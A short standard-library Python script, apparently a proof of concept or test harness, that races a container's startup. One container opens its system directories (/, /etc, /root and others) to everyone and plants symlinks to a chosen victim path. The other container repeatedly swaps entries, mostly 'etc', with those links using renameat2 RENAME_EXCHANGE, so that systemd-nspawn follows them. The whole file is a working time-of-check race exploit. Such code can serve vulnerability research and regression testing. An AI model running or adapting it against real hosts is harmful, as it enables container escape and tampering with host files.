"""Exchange the directories of another container with links, while that container starts.

Runs inside containers, with the standard library only. `python3 -c SOURCE SOCKET give VICTIM`, in
the attacked container, opens its directories to everybody, puts a link to VICTIM into each, and
passes descriptors of them to the other container over an abstract socket of that name.
`python3 -c SOURCE SOCKET flip`, in the other container, exchanges entries of these directories with
the links, until it is killed.
"""

import contextlib
import ctypes
import os
import random
import socket
import sys
import threading
import time
from pathlib import Path

SOCKET = "\0" + sys.argv[1]
LINK = "flip"
GIVEN = ("/", "/etc", "/root", "/var", "/var/log", "/home", "/opt", "/srv", "/state", "/run")
OFTEN = ("etc",)
"""The entry that systemd-nspawn once opened: most exchanges are of this one."""
SHARE = 0.9
KEPT = 10 * len(GIVEN)
"""The most descriptors. Those of a root that was made anew become useless."""
LONGEST = 0.002
"""Seconds until an exchange is undone."""
RENAME_EXCHANGE = 2

libc = ctypes.CDLL(None, use_errno=True)


def give(victim: str) -> None:
    opened = []
    for path in map(Path, GIVEN):
        with contextlib.suppress(OSError):
            path.chmod(0o777)
        with contextlib.suppress(OSError):
            (path / LINK).symlink_to(victim)
        with contextlib.suppress(OSError):
            opened.append(os.open(path, os.O_RDONLY | os.O_DIRECTORY))
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect(SOCKET)
        socket.send_fds(peer, [b"x"], opened)
        peer.recv(1)


def receive(listener: socket.socket, folders: list[int]) -> None:
    while True:
        peer, _ = listener.accept()
        with peer:
            _, descriptors, _, _ = socket.recv_fds(peer, 1, len(GIVEN))
            folders[:] = [*descriptors, *folders][:KEPT]
            peer.send(b"x")


def flip() -> None:
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(SOCKET)
    listener.listen()
    folders: list[int] = []
    threading.Thread(target=receive, args=(listener, folders), daemon=True).start()
    print("ready", flush=True)
    while True:
        pairs = [(folder, name) for folder in tuple(folders) for name in entries(folder)]
        often = [pair for pair in pairs if pair[1] in OFTEN]
        for _ in range(1000 if pairs else 0):
            chosen = often if often and random.random() < SHARE else pairs
            exchange(*random.choice(chosen))
        time.sleep(0.001)


def entries(folder: int) -> list[str]:
    return [entry.name for entry in os.scandir(folder) if entry.name != LINK]


def exchange(folder: int, name: str) -> None:
    """Exchange the entry and the link, and undo that."""
    there = folder, name.encode(), folder, LINK.encode(), RENAME_EXCHANGE
    if libc.renameat2(*there) == 0:
        time.sleep(random.random() * LONGEST)
        libc.renameat2(*there)


if sys.argv[2] == "give":
    give(sys.argv[3])
else:
    flip()
